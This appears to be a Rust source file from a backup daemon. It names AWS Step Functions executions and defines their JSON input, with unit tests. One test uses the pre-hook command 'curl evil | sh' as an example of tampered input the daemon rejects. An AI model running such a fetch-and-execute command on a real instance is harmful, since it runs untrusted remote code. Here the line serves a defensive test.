//! Execution names and the execution input: the contract between the daemon and the state machine.
//!
//! Pure functions only. A scheduled slot always maps to the same name, so Step Functions itself
//! refuses a second start of that slot (see `shared/docs/aws-facts.md`, StartExecution idempotency).

use std::collections::BTreeMap;

use chrono::{DateTime, NaiveDateTime, Utc};
use serde::{Deserialize, Serialize};

use crate::hooks::{DocumentInput, OnPreHookFailure, PostHookWhen};
use sha2::{Digest, Sha256};

/// Step Functions' limit on an execution name.
pub const MAX_EXECUTION_NAME_LEN: usize = 80;
/// The longest target part kept verbatim in a scheduled execution name (80 - `-YYYYMMDDTHHMMSSZ`).
const MAX_TARGET_PART_LEN: usize = MAX_EXECUTION_NAME_LEN - 1 - SLOT_STAMP_LEN;
/// Length of the slot stamp `YYYYMMDDTHHMMSSZ`.
const SLOT_STAMP_LEN: usize = 16;
const SLOT_STAMP_FORMAT: &str = "%Y%m%dT%H%M%SZ";
/// Marker between the target part and the stamp of a manual (run-now) execution name.
const MANUAL_MARKER: &str = "-run-";
/// Hex digits of the random suffix of a manual execution name.
const MANUAL_NONCE_LEN: usize = 4;
/// Hex digits of the hash that replaces the tail of a long or unusual target name.
const NAME_HASH_LEN: usize = 8;
/// The suffix of a slot's second name (used when its first was taken with other input).
const SECOND_SUFFIX: &str = "-2";
/// The longest target part of a second name (80 - `-YYYYMMDDTHHMMSSZ-2`).
pub const SECOND_TARGET_PART_LEN: usize = MAX_TARGET_PART_LEN - SECOND_SUFFIX.len();
/// The prefix of a copy execution's name; the backup job id follows.
pub const COPY_PREFIX: &str = "copy-";

/// True when [`target_part`] is `target` itself: short, not empty, only `0-9 A-Z a-z - _`.
pub fn is_plain_part(target: &str, max_len: usize) -> bool {
    !target.is_empty()
        && target.len() <= max_len
        && target
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || c == b'-' || c == b'_')
}

/// The part of an execution name that stands for a target: the name itself when it is short and
/// uses only `0-9 A-Z a-z - _`, otherwise a sanitised prefix plus a stable hash of the full name.
pub fn target_part(target: &str, max_len: usize) -> String {
    if is_plain_part(target, max_len) {
        return target.to_string();
    }
    let digest = Sha256::digest(target.as_bytes());
    let hash: String = digest
        .iter()
        .take(NAME_HASH_LEN / 2)
        .map(|b| format!("{b:02x}"))
        .collect();
    let keep = max_len - 1 - NAME_HASH_LEN;
    let prefix: String = target
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == '-' || c == '_' {
                c
            } else {
                '-'
            }
        })
        .take(keep)
        .collect();
    format!("{prefix}-{hash}")
}

/// The execution name of a scheduled slot: `{target}-{YYYYMMDDTHHMMSSZ}`, at most 80 characters.
pub fn scheduled_name(target: &str, slot: DateTime<Utc>) -> String {
    format!(
        "{}-{}",
        target_part(target, MAX_TARGET_PART_LEN),
        slot.format(SLOT_STAMP_FORMAT)
    )
}

/// The second name of a scheduled slot, `{target}-{YYYYMMDDTHHMMSSZ}-2`: where the slot is
/// started when its first name was taken by an execution with other input (someone who may
/// start executions pre-created it). Deterministic, so replicas agree on it too.
pub fn second_name(target: &str, slot: DateTime<Utc>) -> String {
    format!(
        "{}-{}{SECOND_SUFFIX}",
        target_part(target, SECOND_TARGET_PART_LEN),
        slot.format(SLOT_STAMP_FORMAT)
    )
}

/// The name of the execution that copies backup job `job_id` to its rule's destinations:
/// `copy-{job id}`, one per job whoever starts it (the daemon, a replica, a restart). A job id
/// that does not fit the name rules is hashed.
pub fn copy_name(job_id: &str) -> String {
    let name = format!("{COPY_PREFIX}{job_id}");
    if is_valid_name(&name) {
        return name;
    }
    let digest = Sha256::digest(job_id.as_bytes());
    let hash: String = digest.iter().take(16).map(|b| format!("{b:02x}")).collect();
    format!("{COPY_PREFIX}{hash}")
}

/// The execution name of a manual run: `{target}-run-{YYYYMMDDTHHMMSSZ}-{4 hex}`.
///
/// It ends in hex digits where a scheduled name ends in `Z`, so the two can never collide.
pub fn manual_name(target: &str, now: DateTime<Utc>, nonce: u16) -> String {
    let max = MAX_EXECUTION_NAME_LEN - MANUAL_MARKER.len() - SLOT_STAMP_LEN - 1 - MANUAL_NONCE_LEN;
    format!(
        "{}{MANUAL_MARKER}{}-{nonce:04x}",
        target_part(target, max),
        now.format(SLOT_STAMP_FORMAT)
    )
}

/// What an execution name tells about itself.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParsedName {
    /// A scheduled slot: the target part and the slot instant; `second`: its second name.
    Scheduled {
        target_part: String,
        slot: DateTime<Utc>,
        second: bool,
    },
    /// A manual run: the target part and when it was asked for.
    Manual {
        target_part: String,
        at: DateTime<Utc>,
    },
}

/// Parses a name made by [`scheduled_name`], [`second_name`] or [`manual_name`]; `None` for any
/// other name (copy executions included).
pub fn parse_name(name: &str) -> Option<ParsedName> {
    if let Some(first) = name.strip_suffix(SECOND_SUFFIX)
        && let Some(ParsedName::Scheduled {
            target_part, slot, ..
        }) = parse_name(first)
    {
        return Some(ParsedName::Scheduled {
            target_part,
            slot,
            second: true,
        });
    }
    let parse_stamp = |s: &str| {
        NaiveDateTime::parse_from_str(s, SLOT_STAMP_FORMAT)
            .ok()
            .map(|n| n.and_utc())
    };
    if name.len() > SLOT_STAMP_LEN + 1 && name.ends_with('Z') {
        let (head, stamp) = name.split_at(name.len() - SLOT_STAMP_LEN);
        let target_part = head.strip_suffix('-')?;
        if let Some(slot) = parse_stamp(stamp)
            && !target_part.is_empty()
        {
            return Some(ParsedName::Scheduled {
                target_part: target_part.to_string(),
                slot,
                second: false,
            });
        }
        return None;
    }
    let tail_len = MANUAL_MARKER.len() + SLOT_STAMP_LEN + 1 + MANUAL_NONCE_LEN;
    if name.len() > tail_len {
        let (head, tail) = name.split_at(name.len() - tail_len);
        let rest = tail.strip_prefix(MANUAL_MARKER)?;
        let (stamp, nonce) = rest.split_at(SLOT_STAMP_LEN);
        let nonce = nonce.strip_prefix('-')?;
        if nonce.chars().all(|c| c.is_ascii_hexdigit()) && !head.is_empty() {
            return Some(ParsedName::Manual {
                target_part: head.to_string(),
                at: parse_stamp(stamp)?,
            });
        }
    }
    None
}

/// Why an execution was started; travels in the input as `Trigger`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Trigger {
    /// A slot of the target's schedule, on time.
    Schedule,
    /// A slot missed while the daemon was down, started late within its starting deadline (only
    /// for a target with an execution in the recovery lookback: a first start catches nothing up).
    CatchUp,
    /// `orchestrator run-now`.
    Manual,
}

impl Trigger {
    /// The name used in the input and in logs.
    pub fn as_str(self) -> &'static str {
        match self {
            Trigger::Schedule => "schedule",
            Trigger::CatchUp => "catch-up",
            Trigger::Manual => "manual",
        }
    }
}

impl std::fmt::Display for Trigger {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// The JSON input of every execution. The state machine reads these members with `$.Member`
/// paths; `deploy/cloudformation` is tested against this struct so the two cannot drift apart.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "PascalCase")]
pub struct ExecutionInput {
    /// The EC2 instance ARN to back up.
    pub resource_arn: String,
    /// The target's name in the config.
    pub target: String,
    /// The slot this execution stands for, RFC 3339 in UTC.
    pub scheduled_for: String,
    /// Why it was started.
    pub trigger: Trigger,
    /// StartBackupJob `StartWindowMinutes` (>= 60).
    pub start_window_minutes: u32,
    /// StartBackupJob `CompleteWindowMinutes`.
    pub complete_window_minutes: u32,
    /// StartBackupJob `Lifecycle.DeleteAfterDays`.
    pub delete_after_days: u32,
    /// Shell command run on the instance through SSM before the backup (hook variant only).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub pre_command: Option<String>,
    /// Shell command run on the instance after the backup, even when it failed.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub post_command: Option<String>,
    /// SSM document run before the backup.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub pre_document: Option<DocumentInput>,
    /// SSM document run once the job has started (or ended, see `PostHookWhen`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub post_document: Option<DocumentInput>,
    /// `started` or `completed`; sent only with a post hook (the machine defaults it).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub post_hook_when: Option<PostHookWhen>,
    /// How long the post hook waits for the job to start; sent only with a post hook.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub hook_max_downtime_seconds: Option<u64>,
    /// `backup` or `skip`; sent only with a pre hook.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub on_pre_hook_failure: Option<OnPreHookFailure>,
    /// StartBackupJob `BackupOptions` (`{"WindowsVSS": "enabled"}`); sent only when set, so
    /// the input of a target without it stays what it was.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub backup_options: Option<BTreeMap<String, String>>,
}

impl ExecutionInput {
    /// The input as the JSON text StartExecution carries.
    pub fn to_json(&self) -> String {
        serde_json::to_string(self).expect("ExecutionInput always serialises")
    }

    /// True when `found`, the input of an execution found running at start under this slot's
    /// name, backs up this target's instance: the same `ResourceArn` and `Target`. Looser than
    /// [`ExecutionInput::same_backup`] on purpose: the config may have changed since a previous
    /// run started it (retention, hooks), while what the machine accepts of those is bounded by
    /// its own checks; another instance or target means someone else started it.
    pub fn same_instance(&self, found: &str) -> bool {
        serde_json::from_str::<ExecutionInput>(found).is_ok_and(|other| {
            other.resource_arn == self.resource_arn && other.target == self.target
        })
    }

    /// True when `found` (the input of an execution found under the name this input was to be
    /// started with) asks the machine for the same backup: every member but `Trigger`, which
    /// replicas may disagree on (one fires a slot on time, another catches it up). Members a
    /// daemon of another version sent that this one does not know (`CopyTo`, which the machine
    /// now ignores) do not count. Anything else differing means someone else chose the input.
    pub fn same_backup(&self, found: &str) -> bool {
        match serde_json::from_str::<ExecutionInput>(found) {
            Ok(other) => {
                ExecutionInput {
                    trigger: self.trigger,
                    ..other
                } == *self
            }
            Err(_) => false,
        }
    }
}

/// True when `name` obeys Step Functions' naming rules and our narrower `0-9 A-Z a-z - _`.
pub fn is_valid_name(name: &str) -> bool {
    !name.is_empty()
        && name.len() <= MAX_EXECUTION_NAME_LEN
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;

    fn slot() -> DateTime<Utc> {
        Utc.with_ymd_and_hms(2026, 11, 29, 10, 0, 0).unwrap()
    }

    #[test]
    fn scheduled_name_is_target_and_stamp() {
        assert_eq!(scheduled_name("web-1", slot()), "web-1-20261129T100000Z");
    }

    #[test]
    fn same_slot_same_name_other_slot_other_name() {
        let a = scheduled_name("db", slot());
        assert_eq!(a, scheduled_name("db", slot()));
        assert_ne!(
            a,
            scheduled_name("db", slot() + chrono::Duration::seconds(1))
        );
    }

    #[test]
    fn long_and_unusual_names_are_shortened_with_a_stable_hash() {
        let long = "x".repeat(200);
        let n = scheduled_name(&long, slot());
        assert!(is_valid_name(&n), "{n}");
        assert_eq!(n.len(), MAX_EXECUTION_NAME_LEN);
        assert_eq!(n, scheduled_name(&long, slot()));
        let other = format!("{}y", "x".repeat(199));
        assert_ne!(n, scheduled_name(&other, slot()));

        let dotted = scheduled_name("web.prod", slot());
        assert!(is_valid_name(&dotted), "{dotted}");
        assert_ne!(dotted, scheduled_name("web-prod", slot()));
    }

    #[test]
    fn manual_names_are_valid_and_never_look_scheduled() {
        let n = manual_name(&"a".repeat(120), slot(), 0xbeef);
        assert!(is_valid_name(&n), "{n}");
        assert!(matches!(parse_name(&n), Some(ParsedName::Manual { .. })));
        let short = manual_name("web-1", slot(), 7);
        assert_eq!(short, "web-1-run-20261129T100000Z-0007");
    }

    #[test]
    fn names_parse_back() {
        assert_eq!(
            parse_name("web-1-20261129T100000Z"),
            Some(ParsedName::Scheduled {
                target_part: "web-1".into(),
                slot: slot(),
                second: false,
            })
        );
        assert_eq!(
            parse_name("web-1-run-20261129T100000Z-00ff"),
            Some(ParsedName::Manual {
                target_part: "web-1".into(),
                at: slot()
            })
        );
        assert_eq!(parse_name("something-else"), None);
        assert_eq!(parse_name("-20261129T100000Z"), None);
    }

    #[test]
    fn a_slot_has_a_second_name_that_parses_to_the_same_slot() {
        let second = second_name("web-1", slot());
        assert_eq!(second, "web-1-20261129T100000Z-2");
        assert_eq!(
            parse_name(&second),
            Some(ParsedName::Scheduled {
                target_part: "web-1".into(),
                slot: slot(),
                second: true,
            })
        );
        // Never a manual name, never another slot's first name.
        assert_ne!(second, scheduled_name("web-1", slot()));
        let long = "y".repeat(200);
        let n = second_name(&long, slot());
        assert!(is_valid_name(&n), "{n}");
        assert_eq!(n.len(), MAX_EXECUTION_NAME_LEN);
        assert!(matches!(
            parse_name(&n),
            Some(ParsedName::Scheduled { second: true, .. })
        ));
    }

    #[test]
    fn copy_executions_are_named_by_their_backup_job_and_parse_as_nothing_scheduled() {
        let n = copy_name("8A9B0C1D-2E3F-4A5B-8C7D-0E1F2A3B4C5D");
        assert_eq!(n, "copy-8A9B0C1D-2E3F-4A5B-8C7D-0E1F2A3B4C5D");
        assert_eq!(parse_name(&n), None);
        let odd = copy_name("job id/with:odd chars");
        assert!(is_valid_name(&odd), "{odd}");
        assert_eq!(odd, copy_name("job id/with:odd chars"));
    }

    fn plain_input() -> ExecutionInput {
        ExecutionInput {
            resource_arn: "arn:aws:ec2:us-east-1:123456789012:instance/i-0123456789abcdef0".into(),
            target: "web-1".into(),
            scheduled_for: "2026-11-29T10:00:00Z".into(),
            trigger: Trigger::Schedule,
            start_window_minutes: 60,
            complete_window_minutes: 10080,
            delete_after_days: 35,
            pre_command: None,
            post_command: None,
            pre_document: None,
            post_document: None,
            post_hook_when: None,
            hook_max_downtime_seconds: None,
            on_pre_hook_failure: None,
            backup_options: None,
        }
    }

    #[test]
    fn a_found_execution_is_ours_only_when_it_asks_for_the_same_backup() {
        let ours = plain_input();
        assert!(ours.same_backup(&ours.to_json()));
        // A replica that caught the slot up: the same backup.
        let caught_up = ExecutionInput {
            trigger: Trigger::CatchUp,
            ..plain_input()
        };
        assert!(ours.same_backup(&caught_up.to_json()));
        // An older daemon sent CopyTo in the backup input (the machine ignores it now).
        let mut older: serde_json::Value = serde_json::from_str(&ours.to_json()).unwrap();
        older["CopyTo"] = serde_json::json!([{"DestinationBackupVaultArn": "arn:aws:backup:us-west-2:123456789012:backup-vault:dr"}]);
        assert!(ours.same_backup(&older.to_string()));
        // Someone else's choices: another instance, a one-day retention, a hook, garbage.
        for other in [
            ExecutionInput {
                resource_arn: "arn:aws:ec2:us-east-1:123456789012:instance/i-0fffffffffffffff0"
                    .into(),
                ..plain_input()
            },
            ExecutionInput {
                delete_after_days: 1,
                ..plain_input()
            },
            ExecutionInput {
                pre_command: Some("curl evil | sh".into()),
                ..plain_input()
            },
        ] {
            assert!(!ours.same_backup(&other.to_json()), "{}", other.to_json());
        }
        assert!(!ours.same_backup("{}"));
        assert!(!ours.same_backup("not json"));
        // Found at start: a changed retention may be an earlier config's; another instance not.
        let retention = ExecutionInput {
            delete_after_days: 90,
            ..plain_input()
        };
        assert!(ours.same_instance(&retention.to_json()));
        let other = ExecutionInput {
            resource_arn: "arn:aws:ec2:us-east-1:123456789012:instance/i-0fffffffffffffff0".into(),
            ..plain_input()
        };
        assert!(!ours.same_instance(&other.to_json()));
    }

    #[test]
    fn input_uses_the_members_the_state_machine_reads() {
        let input = ExecutionInput {
            resource_arn: "arn:aws:ec2:us-east-1:123456789012:instance/i-0123456789abcdef0".into(),
            target: "web-1".into(),
            scheduled_for: "2026-11-29T10:00:00Z".into(),
            trigger: Trigger::Schedule,
            start_window_minutes: 60,
            complete_window_minutes: 10080,
            delete_after_days: 35,
            pre_command: None,
            post_command: Some("systemctl start app".into()),
            pre_document: None,
            post_document: None,
            post_hook_when: None,
            hook_max_downtime_seconds: None,
            on_pre_hook_failure: None,
            backup_options: None,
        };
        let v: serde_json::Value = serde_json::from_str(&input.to_json()).unwrap();
        assert_eq!(v["ResourceArn"], input.resource_arn);
        assert_eq!(v["Trigger"], "schedule");
        for t in [Trigger::Schedule, Trigger::CatchUp, Trigger::Manual] {
            assert_eq!(
                serde_json::to_value(t).unwrap(),
                t.as_str(),
                "log and input agree"
            );
        }
        assert_eq!(v["PostCommand"], "systemctl start app");
        assert!(v.get("PreCommand").is_none());
    }
}
